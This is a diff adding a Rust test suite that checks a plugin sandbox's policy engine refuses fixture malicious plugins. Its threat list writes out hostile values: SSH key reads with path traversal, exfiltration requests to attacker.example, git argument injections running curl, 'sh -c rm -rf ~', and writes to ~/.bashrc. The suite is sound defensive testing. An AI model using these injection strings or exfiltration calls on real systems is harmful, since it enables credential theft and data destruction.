@@ -1,36 +1,700 @@
-// Security threat matrix
-enum ThreatLevel {
-    Critical,  // Can exfiltrate data, execute arbitrary code
-    High,      // Can modify files without consent
-    Medium,    // Can read sensitive files
-    Low,       // UI-only access
+// src-tauri/src/security/threat_matrix.rs
+//
+// Security threat matrix, run as a test suite. Each `Threat` carries a fixture:
+// a malicious plugin (generated plugin.toml + main.js) and the operation it
+// attempts. The harness installs the fixture in a scratch plugins directory,
+// with a scratch workspace and a fake home directory holding secrets, and runs
+// it twice: the attack is sent through the `PolicyEngine` the deno ops and
+// Tauri commands use, where the listed mitigation must be what refuses it; and
+// the plugin is activated in a headless `PluginManager`, where the audit log
+// must show its main.js denied the operation by that same mitigation.
+//
+// To cover a new sandbox escape, add an entry to `THREATS`.
+
+use crate::plugin_system::{
+    audit::{AuditEvent, AuditLogger},
+    consent::{ConsentBroker, CONSENT_TIMEOUT},
+    host::RecordingHost,
+    loader::PluginLoader,
+    manager::PluginManager,
+    policy::{PolicyContext, PolicyEngine, PolicyError},
+    sandbox::{LimitsPolicy, SandboxRegistry},
+};
+use std::fmt;
+use std::path::{Path, PathBuf};
+use std::sync::Arc;
+
+/// How much damage a threat does; the report lists the most severe first
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+pub enum ThreatLevel {
+    Critical, // Can exfiltrate data, execute arbitrary code
+    High,     // Can modify files without consent
+    Medium,   // Can read sensitive files
+    Low,      // UI-only access
+}
+
+/// Defence expected to stop a threat
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Mitigation {
+    /// The plugin lacks the capability for the operation altogether
+    CapabilityGate,
+    /// Filesystem access is confined to the workspace and scoped patterns
+    WorkspaceScope,
+    /// Requests must match the network allowlist
+    DomainAllowlist,
+    /// Only allowlisted programs run
+    CommandAllowlist,
+    /// Built-in and manifest argument rules for allowlisted programs
+    ArgumentRules,
+    /// The per-plugin operations-per-second budget
+    RateLimit,
 }
 
-struct Threat {
-    vector: String,
-    level: ThreatLevel,
-    mitigation: String,
+impl Mitigation {
+    pub fn describe(&self) -> &'static str {
+        match self {
+            Mitigation::CapabilityGate => "Capability model",
+            Mitigation::WorkspaceScope => "Filesystem scope restriction",
+            Mitigation::DomainAllowlist => "Network capability gating + domain allowlist",
+            Mitigation::CommandAllowlist => "Command allowlist",
+            Mitigation::ArgumentRules => "Command argument rules",
+            Mitigation::RateLimit => "Per-plugin operation rate limit",
+        }
+    }
+
+    /// Whether `error` is this mitigation refusing the operation.
+    pub fn blocks(&self, error: &PolicyError) -> bool {
+        match self {
+            Mitigation::CapabilityGate => matches!(error, PolicyError::PermissionDenied { .. }),
+            Mitigation::WorkspaceScope => matches!(
+                error,
+                PolicyError::PathNotAllowed { .. } | PolicyError::InvalidPath { .. }
+            ),
+            Mitigation::DomainAllowlist => {
+                matches!(
+                    error,
+                    PolicyError::DomainNotAllowed(_) | PolicyError::Network(_)
+                )
+            }
+            Mitigation::CommandAllowlist => matches!(error, PolicyError::CommandNotAllowed(_)),
+            Mitigation::ArgumentRules => matches!(error, PolicyError::Command(_)),
+            Mitigation::RateLimit => matches!(error, PolicyError::Resource(_)),
+        }
+    }
+
+    /// Whether the `error` of an audit event, the message of the
+    /// [`PolicyError`] that refused a deno op, is this mitigation refusing it.
+    pub fn blocks_recorded(&self, error: &str) -> bool {
+        let prefixes: &[&str] = match self {
+            Mitigation::CapabilityGate => &["Permission denied: "],
+            Mitigation::WorkspaceScope => &["Path not allowed: ", "Invalid path '"],
+            Mitigation::DomainAllowlist => {
+                &["Domain not allowed: ", "Network request not allowed: "]
+            }
+            Mitigation::CommandAllowlist => &["Command not allowed: "],
+            Mitigation::ArgumentRules => &["Command rejected: "],
+            Mitigation::RateLimit => &[
+                "Rate limit exceeded: ",
+                "Command limit exceeded: ",
+                "Response body exceeds ",
+            ],
+        };
+        prefixes.iter().any(|prefix| error.starts_with(prefix))
+    }
+}
+
+/// What a fixture plugin tries to do. `{home}` in a path is replaced with the
+/// harness's fake home directory; relative paths resolve against the workspace.
+#[derive(Debug, Clone, Copy)]
+pub enum Attack {
+    Read(&'static str),
+    Write(&'static str),
+    Fetch {
+        url: &'static str,
+        method: &'static str,
+    },
+    Command {
+        command: &'static str,
+        args: &'static [&'static str],
+    },
+    Ui(&'static str),
+    AuditRead,
+    /// Read the same file `calls` times in a row
+    Flood {
+        path: &'static str,
+        calls: usize,
+    },
 }
 
-const THREATS: &[Threat] = &[
+impl Attack {
+    /// The fixture's main.js: the attack made from the activation hook, with
+    /// `{home}` pointing at `home`.
+    pub fn script(&self, home: &str) -> String {
+        let js = |value: &str| serde_json::to_string(value).unwrap();
+        let path = |raw: &str| js(&raw.replace("{home}", home));
+        let call = match self {
+            Attack::Read(raw) => format!("skretchpad.fs.readFile({});", path(raw)),
+            Attack::Write(raw) => format!("skretchpad.fs.writeFile({}, 'pwned');", path(raw)),
+            Attack::Fetch { url, method } => format!(
+                "await skretchpad.network.fetchAsync({}, {{ method: {} }});",
+                js(url),
+                js(method)
+            ),
+            Attack::Command { command, args } => format!(
+                "await skretchpad.commands.executeAsync({}, {});",
+                js(command),
+                serde_json::to_string(args).unwrap()
+            ),
+            Attack::Ui(_) => "skretchpad.ui.showNotification('pwned', 'info');".to_string(),
+            Attack::AuditRead => "skretchpad.audit.subscribe();".to_string(),
+            Attack::Flood { path: raw, calls } => format!(
+                "for (let i = 0; i < {}; i++) skretchpad.fs.readFile({});",
+                calls,
+                path(raw)
+            ),
+        };
+        // Network requests and commands use the Promise variants, which leave
+        // the pool thread free; awaiting them makes their refusal reject the
+        // activation hook like a thrown error
+        format!("onActivate(async function () {{\n  {}\n}});\n", call)
+    }
+
+    /// Operation name the attack is audited under.
+    pub fn operation(&self) -> &'static str {
+        match self {
+            Attack::Read(_) | Attack::Flood { .. } => "fs.read",
+            Attack::Write(_) => "fs.write",
+            Attack::Fetch { .. } => "network.fetch",
+            Attack::Command { .. } => "command.execute",
+            Attack::Ui(_) => "ui.notification",
+            Attack::AuditRead => "audit.subscribe",
+        }
+    }
+}
+
+pub struct Threat {
+    pub vector: &'static str,
+    pub level: ThreatLevel,
+    pub mitigation: Mitigation,
+    /// `[permissions]`, `[ui]` and `[limits]` tables of the fixture's plugin.toml
+    pub permissions: &'static str,
+    pub attack: Attack,
+}
+
+pub const THREATS: &[Threat] = &[
     Threat {
         vector: "Plugin reads ~/.ssh/id_rsa",
         level: ThreatLevel::Critical,
-        mitigation: "Filesystem scope restriction + capability model",
+        mitigation: Mitigation::WorkspaceScope,
+        permissions: "[permissions]\nfilesystem = \"WorkspaceRead\"\n",
+        attack: Attack::Read("{home}/.ssh/id_rsa"),
+    },
+    Threat {
+        vector: "Plugin reads ~/.ssh/id_rsa through ../ traversal",
+        level: ThreatLevel::Critical,
+        mitigation: Mitigation::WorkspaceScope,
+        permissions: "[permissions]\nfilesystem = \"WorkspaceRead\"\n",
+        attack: Attack::Read("../home/.ssh/id_rsa"),
     },
     Threat {
         vector: "Plugin makes network requests to exfiltrate data",
         level: ThreatLevel::Critical,
-        mitigation: "Network capability gating + domain allowlist",
+        mitigation: Mitigation::DomainAllowlist,
+        permissions:
+            "[permissions.network]\ntype = \"DomainAllowlist\"\ndomains = [\"api.github.com\"]\n",
+        attack: Attack::Fetch {
+            url: "https://attacker.example/upload",
+            method: "POST",
+        },
+    },
+    Threat {
+        vector: "Plugin without network access phones home",
+        level: ThreatLevel::Critical,
+        mitigation: Mitigation::CapabilityGate,
+        permissions: "[permissions]\nfilesystem = \"WorkspaceRead\"\n",
+        attack: Attack::Fetch {
+            url: "https://attacker.example/beacon",
+            method: "GET",
+        },
+    },
+    Threat {
+        vector: "Plugin runs git with an injected ssh command",
+        level: ThreatLevel::Critical,
+        mitigation: Mitigation::ArgumentRules,
+        permissions: "[permissions]\ncommands = { allowlist = [\"git\"] }\n",
+        attack: Attack::Command {
+            command: "git",
+            args: &["-c", "core.sshCommand=curl attacker.example", "fetch"],
+        },
+    },
+    Threat {
+        vector: "Plugin runs git grep with a pager command",
+        level: ThreatLevel::Critical,
+        mitigation: Mitigation::ArgumentRules,
+        permissions: "[permissions]\ncommands = { allowlist = [\"git\"] }\n",
+        attack: Attack::Command {
+            command: "git",
+            args: &["grep", "-Osh -c 'curl attacker.example'", "TODO"],
+        },
+    },
+    Threat {
+        vector: "Plugin runs git rebase with an exec command",
+        level: ThreatLevel::Critical,
+        mitigation: Mitigation::ArgumentRules,
+        permissions: "[permissions]\ncommands = { allowlist = [\"git\"] }\n",
+        attack: Attack::Command {
+            command: "git",
+            args: &["rebase", "-x", "curl attacker.example", "HEAD~1"],
+        },
     },
     Threat {
         vector: "Plugin modifies files outside project directory",
         level: ThreatLevel::High,
-        mitigation: "Scoped filesystem access + user confirmation",
+        mitigation: Mitigation::WorkspaceScope,
+        permissions: "[permissions]\nfilesystem = \"WorkspaceReadWrite\"\n",
+        attack: Attack::Write("{home}/.bashrc"),
+    },
+    Threat {
+        vector: "Read-only plugin modifies project files",
+        level: ThreatLevel::High,
+        mitigation: Mitigation::CapabilityGate,
+        permissions: "[permissions]\nfilesystem = \"WorkspaceRead\"\n",
+        attack: Attack::Write("src/main.rs"),
     },
     Threat {
         vector: "Plugin executes shell commands",
         level: ThreatLevel::High,
-        mitigation: "Command allowlist + sandboxed execution",
+        mitigation: Mitigation::CommandAllowlist,
+        permissions: "[permissions]\ncommands = { allowlist = [\"git\"] }\n",
+        attack: Attack::Command {
+            command: "sh",
+            args: &["-c", "rm -rf ~"],
+        },
+    },
+    Threat {
+        vector: "Plugin executes a program by path to dodge the allowlist",
+        level: ThreatLevel::High,
+        mitigation: Mitigation::CommandAllowlist,
+        permissions: "[permissions]\ncommands = { allowlist = [\"git\"] }\n",
+        attack: Attack::Command {
+            command: "/usr/bin/git",
+            args: &["status"],
+        },
     },
-];
\ No newline at end of file
+    Threat {
+        vector: "Plugin reads files denied by its scoped filesystem patterns",
+        level: ThreatLevel::Medium,
+        mitigation: Mitigation::WorkspaceScope,
+        permissions: "[permissions.filesystem]\nread = [\"**\"]\ndeny = [\"**/.env\"]\n",
+        attack: Attack::Read(".env"),
+    },
+    Threat {
+        vector: "Plugin watches other plugins' activity",
+        level: ThreatLevel::Medium,
+        mitigation: Mitigation::CapabilityGate,
+        permissions: "[permissions]\nfilesystem = \"WorkspaceRead\"\n",
+        attack: Attack::AuditRead,
+    },
+    Threat {
+        vector: "Plugin floods privileged operations",
+        level: ThreatLevel::Medium,
+        mitigation: Mitigation::RateLimit,
+        permissions:
+            "[permissions]\nfilesystem = \"WorkspaceRead\"\n\n[limits]\nops_per_second = 5\n",
+        attack: Attack::Flood {
+            path: "src/main.rs",
+            calls: 50,
+        },
+    },
+    Threat {
+        vector: "Plugin without UI access spams notifications",
+        level: ThreatLevel::Low,
+        mitigation: Mitigation::CapabilityGate,
+        permissions: "",
+        attack: Attack::Ui("notification"),
+    },
+];
+
+/// Result of running one threat's fixture
+#[derive(Debug)]
+pub struct ThreatOutcome {
+    pub vector: &'static str,
+    pub level: ThreatLevel,
+    pub mitigation: Mitigation,
+    /// Why the operation was refused, or `None` if it went through
+    pub refused: Option<PolicyError>,
+}
+
+impl ThreatOutcome {
+    /// The listed mitigation is what refused the operation.
+    pub fn mitigated(&self) -> bool {
+        self.refused
+            .as_ref()
+            .is_some_and(|error| self.mitigation.blocks(error))
+    }
+}
+
+/// Outcomes of the whole matrix, most severe first
+pub struct ThreatReport {
+    pub outcomes: Vec<ThreatOutcome>,
+}
+
+impl ThreatReport {
+    pub fn failures(&self) -> Vec<&ThreatOutcome> {
+        self.outcomes.iter().filter(|o| !o.mitigated()).collect()
+    }
+}
+
+impl fmt::Display for ThreatReport {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        for outcome in &self.outcomes {
+            let result = match (&outcome.refused, outcome.mitigated()) {
+                (_, true) => "BLOCKED".to_string(),
+                (Some(error), false) => format!("BLOCKED BY WRONG CHECK ({})", error),
+                (None, false) => "NOT BLOCKED".to_string(),
+            };
+            writeln!(
+                f,
+                "[{:?}] {} | {} | {}",
+                outcome.level,
+                outcome.vector,
+                outcome.mitigation.describe(),
+                result
+            )?;
+        }
+        Ok(())
+    }
+}
+
+/// Scratch plugins directory, workspace and home for running fixtures.
+pub struct ThreatHarness {
+    root: tempfile::TempDir,
+    engine: PolicyEngine,
+    limits_policy: LimitsPolicy,
+}
+
+impl ThreatHarness {
+    pub fn new() -> std::io::Result<Self> {
+        let root = tempfile::tempdir()?;
+        let workspace = root.path().join("workspace");
+        let home = root.path().join("home");
+        std::fs::create_dir_all(workspace.join("src"))?;
+        std::fs::create_dir_all(home.join(".ssh"))?;
+        std::fs::create_dir_all(root.path().join("plugins"))?;
+        std::fs::write(workspace.join("src/main.rs"), "fn main() {}\n")?;
+        std::fs::write(workspace.join(".env"), "API_TOKEN=secret\n")?;
+        std::fs::write(home.join(".ssh/id_rsa"), "PRIVATE KEY\n")?;
+        std::fs::write(home.join(".bashrc"), "# shell profile\n")?;
+
+        Ok(Self {
+            root,
+            engine: PolicyEngine::new(
+                Arc::new(AuditLogger::new(100)),
+                Arc::new(ConsentBroker::new(CONSENT_TIMEOUT)),
+            ),
+            limits_policy: LimitsPolicy::default(),
+        })
+    }
+
+    fn plugins_dir(&self) -> PathBuf {
+        self.root.path().join("plugins")
+    }
+
+    fn workspace(&self) -> PathBuf {
+        self.root
+            .path()
+            .join("workspace")
+            .canonicalize()
+            .expect("harness workspace exists")
+    }
+
+    fn home(&self) -> PathBuf {
+        self.root.path().join("home")
+    }
+
+    /// Write the threat's malicious plugin into the plugins directory.
+    fn install(&self, plugin_id: &str, threat: &Threat) -> std::io::Result<()> {
+        let dir = self.plugins_dir().join(plugin_id);
+        std::fs::create_dir_all(&dir)?;
+        std::fs::write(
+            dir.join("plugin.toml"),
+            format!(
+                "name = \"{}\"\nversion = \"1.0.0\"\nauthor = \"attacker\"\nmain = \"main.js\"\n\n{}",
+                plugin_id, threat.permissions
+            ),
+        )?;
+        std::fs::write(
+            dir.join("main.js"),
+            threat.attack.script(&self.home().to_string_lossy()),
+        )
+    }
+
+    /// Install, load and attack with one threat's fixture.
+    pub fn run(&self, index: usize, threat: &Threat) -> ThreatOutcome {
+        let plugin_id = format!("threat-{:02}", index);
+        self.install(&plugin_id, threat)
+            .expect("failed to write threat fixture");
+        let mut loader = PluginLoader::new(self.plugins_dir());
+        loader
+            .load(&plugin_id)
+            .unwrap_or_else(|e| panic!("fixture for '{}' does not load: {}", threat.vector, e));
+        let manifest = &loader.get(&plugin_id).unwrap().manifest;
+
+        // Pin allowlisted programs even where they are not installed; the
+        // harness only authorizes commands, it never runs them
+        let mut capabilities = manifest.capabilities.clone();
+        for command in capabilities.commands.allowlist.clone() {
+            capabilities
+                .commands
+                .programs
+                .entry(command.clone())
+                .or_insert_with(|| Path::new("/usr/bin").join(command));
+        }
+
+        let workspace = self.workspace();
+        let limits = self.limits_policy.effective_limits(manifest);
+        let ctx = PolicyContext {
+            plugin_id: &plugin_id,
+            capabilities: &capabilities,
+            workspace_root: &workspace,
+            limits: &limits,
+        };
+
+        ThreatOutcome {
+            vector: threat.vector,
+            level: threat.level,
+            mitigation: threat.mitigation,
+            refused: self.attack(&ctx, &threat.attack).err(),
+        }
+    }
+
+    fn attack(&self, ctx: &PolicyContext, attack: &Attack) -> Result<(), PolicyError> {
+        let home = self.home().to_string_lossy().into_owned();
+        let path = |raw: &str| raw.replace("{home}", &home);
+        match *attack {
+            Attack::Read(raw) => self.engine.authorize_read(ctx, &path(raw)).map(drop),
+            Attack::Write(raw) => self.engine.authorize_write(ctx, &path(raw)).map(drop),
+            Attack::Fetch { url, method } => {
+                self.engine.authorize_fetch(ctx, url, method).map(drop)
+            }
+            Attack::Command { command, args } => {
+                let args: Vec<String> = args.iter().map(|a| a.to_string()).collect();
+                self.engine
+                    .authorize_command(ctx, command, &args, None)
+                    .map(drop)
+            }
+            Attack::Ui(feature) => self.engine.authorize_ui(ctx, feature),
+            Attack::AuditRead => self.engine.authorize_audit_read(ctx),
+            Attack::Flood { path: raw, calls } => {
+                for _ in 0..calls {
+                    self.engine.authorize_read(ctx, &path(raw))?;
+                }
+                Ok(())
+            }
+        }
+    }
+
+    /// Install the threat's fixture and activate it in a headless
+    /// `PluginManager`; returns the audit events of the attack's operation.
+    pub async fn run_headless(&self, index: usize, threat: &Threat) -> Vec<AuditEvent> {
+        let plugin_id = format!("threat-{:02}", index);
+        self.install(&plugin_id, threat)
+            .expect("failed to write threat fixture");
+
+        // A fresh engine, so the policy-level run's rate limit budget is not shared
+        let audit = Arc::new(AuditLogger::new(1000));
+        let host = Arc::new(
+            RecordingHost::new().with_policy_engine(Arc::new(PolicyEngine::new(
+                audit.clone(),
+                Arc::new(ConsentBroker::new(CONSENT_TIMEOUT)),
+            ))),
+        );
+        let mut manager = PluginManager::new(
+            self.plugins_dir(),
+            Arc::new(SandboxRegistry::new()),
+            self.workspace(),
+            host,
+            Default::default(),
+        );
+        manager
+            .load(&plugin_id)
+            .unwrap_or_else(|e| panic!("fixture for '{}' does not load: {}", threat.vector, e));
+        // The attack throws inside the activation hook, so activation may fail
+        let _ = manager.activate(&plugin_id).await;
+        if manager.is_active(&plugin_id) {
+            let _ = manager.deactivate(&plugin_id).await;
+        }
+
+        audit
+            .get_events_for_plugin(&plugin_id)
+            .await
+            .into_iter()
+            .filter(|event| event.operation == threat.attack.operation())
+            .collect()
+    }
+
+    /// Run every threat in `THREATS`.
+    pub fn run_all(&self) -> ThreatReport {
+        let mut outcomes: Vec<ThreatOutcome> = THREATS
+            .iter()
+            .enumerate()
+            .map(|(index, threat)| self.run(index, threat))
+            .collect();
+        outcomes.sort_by_key(|outcome| outcome.level);
+        ThreatReport { outcomes }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_every_threat_is_mitigated() {
+        let harness = ThreatHarness::new().unwrap();
+        let report = harness.run_all();
+        println!("{}", report);
+
+        let failures = report.failures();
+        assert!(
+            failures.is_empty(),
+            "{} threat(s) not mitigated:\n{}",
+            failures.len(),
+            report
+        );
+    }
+
+    #[tokio::test]
+    async fn test_every_threat_is_denied_in_a_running_plugin() {
+        let harness = ThreatHarness::new().unwrap();
+        for (index, threat) in THREATS.iter().enumerate() {
+            let events = harness.run_headless(index, threat).await;
+            let blocked = |event: &AuditEvent| {
+                event
+                    .error
+                    .as_deref()
+                    .is_some_and(|error| threat.mitigation.blocks_recorded(error))
+            };
+            assert!(
+                events.iter().any(blocked),
+                "'{}': {} was not denied by {} (events: {:?})",
+                threat.vector,
+                threat.attack.operation(),
+                threat.mitigation.describe(),
+                events
+            );
+            // A flood starts with reads the plugin may make; every other attack
+            // must be refused outright
+            if !matches!(threat.attack, Attack::Flood { .. }) {
+                assert!(
+                    events.iter().all(blocked),
+                    "'{}': {} went through or was refused by something else (events: {:?})",
+                    threat.vector,
+                    threat.attack.operation(),
+                    events
+                );
+            }
+        }
+    }
+
+    #[test]
+    fn test_recorded_errors_name_the_same_mitigation() {
+        use crate::plugin_system::commands::CommandError;
+        use crate::plugin_system::network::NetworkError;
+        use crate::plugin_system::sandbox::PluginError;
+
+        let errors = [
+            PolicyError::PermissionDenied {
+                operation: "read".to_string(),
+                capability: "filesystem read".to_string(),
+            },
+            PolicyError::InvalidPath {
+                path: "../x".to_string(),
+                reason: "escapes the workspace".to_string(),
+            },
+            PolicyError::PathNotAllowed {
+                path: "/etc/passwd".to_string(),
+            },
+            PolicyError::DomainNotAllowed("evil.example".to_string()),
+            PolicyError::Network(NetworkError::UnsupportedScheme("file".to_string())),
+            PolicyError::CommandNotAllowed("rm".to_string()),
+            PolicyError::Command(CommandError::LeadingOption("git".to_string())),
+            PolicyError::Resource(PluginError::RateLimitExceeded {
+                current: 101,
+                limit: 100,
+            }),
+            PolicyError::Resource(PluginError::CommandLimitExceeded {
+                running: 4,
+                limit: 4,
+            }),
+            PolicyError::Resource(PluginError::FetchBodyTooLarge { limit: 1024 }),
+            PolicyError::Fetch("connection reset".to_string()),
+        ];
+        let mitigations = [
+            Mitigation::CapabilityGate,
+            Mitigation::WorkspaceScope,
+            Mitigation::DomainAllowlist,
+            Mitigation::CommandAllowlist,
+            Mitigation::ArgumentRules,
+            Mitigation::RateLimit,
+        ];
+        for error in &errors {
+            for mitigation in mitigations {
+                assert_eq!(
+                    mitigation.blocks_recorded(&error.to_string()),
+                    mitigation.blocks(error),
+                    "{:?} on '{}'",
+                    mitigation,
+                    error
+                );
+            }
+        }
+    }
+
+    #[test]
+    fn test_report_is_sorted_by_threat_level() {
+        let harness = ThreatHarness::new().unwrap();
+        let report = harness.run_all();
+        assert_eq!(report.outcomes.len(), THREATS.len());
+        assert!(report
+            .outcomes
+            .windows(2)
+            .all(|pair| pair[0].level <= pair[1].level));
+        assert_eq!(report.outcomes[0].level, ThreatLevel::Critical);
+    }
+
+    #[test]
+    fn test_harness_detects_unmitigated_threat() {
+        // A plugin doing what its manifest allows must show up as a failure,
+        // so a broken check cannot pass the suite by accident
+        let harness = ThreatHarness::new().unwrap();
+        let outcome = harness.run(
+            99,
+            &Threat {
+                vector: "Plugin reads a workspace file it may read",
+                level: ThreatLevel::Low,
+                mitigation: Mitigation::WorkspaceScope,
+                permissions: "[permissions]\nfilesystem = \"WorkspaceRead\"\n",
+                attack: Attack::Read("src/main.rs"),
+            },
+        );
+        assert!(outcome.refused.is_none());
+        assert!(!outcome.mitigated());
+    }
+
+    #[test]
+    fn test_fixture_script_makes_the_attack() {
+        let script = Attack::Fetch {
+            url: "https://attacker.example/upload",
+            method: "POST",
+        }
+        .script("/tmp/home");
+        assert!(script.starts_with("onActivate(async function () {"));
+        assert!(Attack::Read("{home}/.ssh/id_rsa")
+            .script("/tmp/home")
+            .contains(r#"skretchpad.fs.readFile("/tmp/home/.ssh/id_rsa");"#));
+        assert!(script.contains(
+            r#"await skretchpad.network.fetchAsync("https://attacker.example/upload", { method: "POST" });"#
+        ));
+    }
+}